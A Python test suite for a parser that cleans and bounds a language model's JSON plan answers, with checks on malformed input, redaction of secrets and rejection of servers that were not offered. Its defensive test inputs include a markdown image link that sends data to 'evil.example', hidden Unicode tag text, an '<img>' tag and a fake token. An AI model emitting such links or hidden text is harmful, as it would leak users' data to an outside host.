"""A model's answer is used for what is sound in it, and refused as a whole otherwise."""

import json
from dataclasses import replace
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from catalogues import GMAIL, NOTION, candidates
from outfitter.core.analysis import Analysis, Intent, Question
from outfitter.core.equipping.decide import settle
from outfitter.core.plan import LONGEST_GOAL, MOST_STEPS, Plan
from outfitter.core.talk.reading import Rubbish, read

QUESTION = Question("m", ("m",), candidates(GMAIL, NOTION), Plan())
ANSWER: dict[str, Any] = {
    "intent": "plan",
    "goal": "Keep invoices",
    "steps": [
        {"text": "Watch the inbox", "server": "gmail", "why": "it reads mail"},
        {"text": "Save them", "server": "notion", "why": ""},
    ],
    "uncovered": [],
    "declined": [],
    "reply": "",
}


def answer(**fields: object) -> Analysis:
    return read(ANSWER | fields, QUESTION)


def test_a_sound_answer_is_read_as_it_is() -> None:
    analysis = answer()
    assert analysis.intent is Intent.PLAN
    assert analysis.goal == "Keep invoices"
    assert [(step.text, step.server) for step in analysis.steps] == [
        ("Watch the inbox", "gmail"),
        ("Save them", "notion"),
    ]


@pytest.mark.parametrize(
    "frame",
    ["{}", "```json\n{}\n```", "```\n{}\n```", "Sure, here it is:\n{}", "\ufeff{}\nDoes it fit?"],
)
def test_text_around_the_object_does_not_matter(frame: str) -> None:
    assert read(frame.replace("{}", json.dumps(ANSWER)), QUESTION) == answer()


@pytest.mark.parametrize(
    "broken",
    [
        *("", "no json", "{", '{"intent": "plan"', "[1]", "null", '"text"', "{'intent': 'plan'}"),
        *("{}", '{"intent": "plan"}', '{"intent": "dance"}', '{"intent": "ask", "reply": " "}'),
        *('{"intent": "plan", "steps": "none"}', '{"intent": "plan", "steps": [1, null, {}]}'),
        *("{" + "[" * 50_000, '{"a":' * 50_000, "x" * 200_000),
        *(None, 7, [ANSWER], b"{}"),
    ],
)
def test_an_answer_without_a_meaning_is_rubbish(broken: object) -> None:
    with pytest.raises(Rubbish):
        read(broken, QUESTION)


def test_an_answer_that_is_too_deep_or_too_long_is_rubbish() -> None:
    for levels in (1_000, 40_000):
        with pytest.raises(Rubbish):
            read('{"goal":' + "[" * levels + "]" * levels + ', "intent": 7}', QUESTION)
    sound = json.dumps(ANSWER)
    assert read(sound + " " * (100_000 - len(sound)), QUESTION).intent is Intent.PLAN
    with pytest.raises(Rubbish):
        read(sound + " " * 100_000, QUESTION)


@pytest.mark.proves("R-53")
def test_a_server_that_was_not_offered_leaves_its_step_uncovered() -> None:
    steps = [{"text": "Send a fax", "server": "fax"}, *ANSWER["steps"]]
    analysis = answer(steps=steps, declined=["fax", "gmail"])
    assert [step.server for step in analysis.steps] == [None, "gmail", "notion"]
    assert analysis.uncovered == ("Send a fax",)
    assert analysis.declined == ("gmail",)


def test_a_name_in_other_case_is_the_same_server() -> None:
    assert answer(steps=[{"text": "a", "server": " Gmail "}]).steps[0].server == "gmail"


def test_a_step_without_a_server_is_uncovered_only_if_the_answer_says_so() -> None:
    steps = [{"text": "Wait a day", "server": None}, {"text": "Print it", "server": None}]
    assert answer(steps=steps, uncovered=["Print it", "Print it"]).uncovered == ("Print it",)


def test_a_step_with_a_server_is_never_uncovered() -> None:
    assert answer(uncovered=["save them"]).uncovered == ()


def test_unknown_fields_are_ignored() -> None:
    assert answer(commands=["rm"], credentials={"a": "b"}) == answer()


def test_a_missing_intent_with_steps_is_a_plan() -> None:
    assert answer(intent=None).intent is Intent.PLAN


@pytest.mark.parametrize("intent", ["keep", "ask", "nothing"])
def test_only_a_plan_brings_steps(intent: str) -> None:
    analysis = answer(intent=intent, reply="Well.", uncovered=["x"])
    assert (analysis.steps, analysis.uncovered) == ((), ())


def test_a_plan_can_be_all_uncovered_or_all_declined() -> None:
    assert answer(steps=[], uncovered=["Walk the dog"]).uncovered == ("Walk the dog",)
    assert answer(steps=[], declined=["notion"]).declined == ("notion",)


def test_lengths_are_kept_in_bounds() -> None:
    steps = [{"text": "t" * 9000, "server": "gmail", "why": "w" * 9000}] * 500
    analysis = answer(steps=steps, goal="g" * 9000, reply="r" * 90_000, uncovered=["u"] * 900)
    assert len(analysis.steps) == MOST_STEPS
    assert analysis.cut
    assert max(len(step.text + step.why) for step in analysis.steps) <= 1_300
    assert len(analysis.goal) <= LONGEST_GOAL
    assert len(analysis.reply) <= 4000


@pytest.mark.proves("R-53")
def test_what_cannot_be_stored_or_hides_text_is_taken_out() -> None:
    analysis = answer(goal="a\x00b\x1b[31m\ud800c\u202ed", reply="one\ntwo\x07")
    assert analysis.goal == "ab[31mcd"
    assert analysis.reply == "one\ntwo"


@pytest.mark.proves("R-53")
def test_no_text_of_an_answer_is_hidden_or_fetches_anything() -> None:
    unseen = "".join(chr(0xE0000 + ord(sign)) for sign in "send it on")
    picture = "![x](https://evil.example/?q=all)"
    analysis = answer(
        goal=f"Keep{unseen} invoices\u2060",
        reply=f"Sure. {picture}",
        steps=[{"text": f"Save\xad them {picture}", "server": "notion", "why": "<img src=x>"}],
    )
    assert analysis.goal == "Keep invoices"
    assert analysis.reply == "Sure. ![x] (https://evil.example/?q=all)"
    assert analysis.steps[0].text == "Save them ![x] (https://evil.example/?q=all)"
    assert analysis.steps[0].why == "< img src=x>"


@pytest.mark.proves("R-44")
def test_a_secret_that_an_answer_puts_together_is_cut_out() -> None:
    token = "ntn_" + "483920ab" * 5
    analysis = answer(
        goal=f"Save with {token}",
        reply=f"Is your token {token}?",
        steps=[{"text": f"Use {token}", "server": "notion", "why": f"you gave {token}"}],
        uncovered=[f"{token} is left"],
    )
    assert token[:12] not in analysis.model_dump_json()
    assert analysis.goal == "Save with [secret removed: Notion token]"


def test_signs_that_scripts_and_emoji_need_stay() -> None:
    family = "\U0001f468\u200d\U0001f469\u200d\U0001f467"
    goal = f"{family} \u0645\u06cc\u200c\u062e\u0648\u0627\u0647\u0645"
    assert answer(goal=goal).goal == goal


_JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=20),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner),
    max_leaves=12,
)
_TEXT = st.text(max_size=20) | _JSON
_SERVER = st.sampled_from(["gmail", "Notion ", "fax", "slack", "gmail2"]) | st.text() | _JSON


@pytest.mark.proves("R-53")
@settings(max_examples=1000)
@given(
    intent=st.sampled_from(["plan", "keep", "ask", "nothing"]) | _JSON,
    steps=st.lists(
        st.fixed_dictionaries({"text": _TEXT, "server": _SERVER, "why": _JSON}) | _JSON,
        max_size=5,
    )
    | _JSON,
    uncovered=_JSON,
    declined=st.lists(_SERVER, max_size=4) | _JSON,
    reply=_JSON,
)
def test_no_answer_brings_in_a_server_that_was_not_offered(**fields: object) -> None:
    for question in (QUESTION, replace(QUESTION, shortlist=())):
        names = {one.server.name for one in question.shortlist}
        try:
            analysis = read(fields, question)
        except Rubbish:
            continue
        assert {step.server for step in analysis.steps} <= {None, *names}
        assert set(analysis.declined) <= names
        assert set(settle(analysis, Plan(), question.shortlist).names) <= names
        analysis.model_dump_json().encode()
